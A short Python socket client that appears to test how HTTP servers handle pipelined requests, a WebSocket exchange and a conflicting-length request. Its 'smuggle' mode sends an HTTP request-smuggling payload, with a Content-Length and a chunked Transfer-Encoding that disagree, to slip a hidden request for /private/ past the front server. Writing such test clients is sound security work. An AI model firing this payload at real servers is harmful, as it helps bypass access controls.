"""Says what curl does not say.

    client.py pipeline ADDRESS PORT     three requests at once
    client.py websocket ADDRESS PORT    a WebSocket, one message each way
    client.py smuggle ADDRESS PORT      a request with two lengths that disagree
"""

import socket
import sys


def read_to(end, stream):
    said = b""
    while end not in said:
        said += stream.recv(65536)
    return said


def pipeline(stream):
    lines = [("GET /", ""), ("HEAD /missing", ""), ("GET /private/", "Connection: close\r\n")]
    requests = [f"{line} HTTP/1.1\r\nHost: www.example.com\r\n{close}\r\n" for line, close in lines]
    stream.sendall("".join(requests).encode())
    while stream.recv(65536):
        pass


def websocket(stream):
    stream.sendall(
        b"GET /chat HTTP/1.1\r\nHost: www.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    read_to(b"\r\n\r\n", stream)
    mask, text = b"\x11\x22\x33\x44", b"hello"
    stream.sendall(bytes([0x81, 0x80 | len(text)]) + mask + bytes(o ^ mask[n % 4] for n, o in enumerate(text)))
    read_to(text, stream)


def smuggle(stream):
    stream.sendall(
        b"POST / HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 48\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"0\r\n\r\nGET /private/ HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
    )
    while stream.recv(65536):
        pass


what, address, port = sys.argv[1:]
with socket.create_connection((address, int(port))) as connection:
    connection.settimeout(3)
    {"pipeline": pipeline, "websocket": websocket, "smuggle": smuggle}[what](connection)
